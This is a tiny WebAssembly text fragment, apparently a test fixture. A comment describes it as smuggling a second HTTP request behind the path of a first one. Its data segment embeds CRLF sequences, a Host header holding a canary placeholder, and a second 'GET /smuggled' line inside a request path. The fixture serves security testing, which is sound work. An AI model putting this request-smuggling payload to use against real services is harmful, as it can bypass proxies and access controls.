;; Smuggles a second request behind the path of the first.
(data (i32.const 4096) "/contacts HTTP/1.1\r\nHost: {{canary}}\r\n\r\nGET /smuggled\00")
(func $list (result i32) (call $tell (call $get (i32.const 4096))))
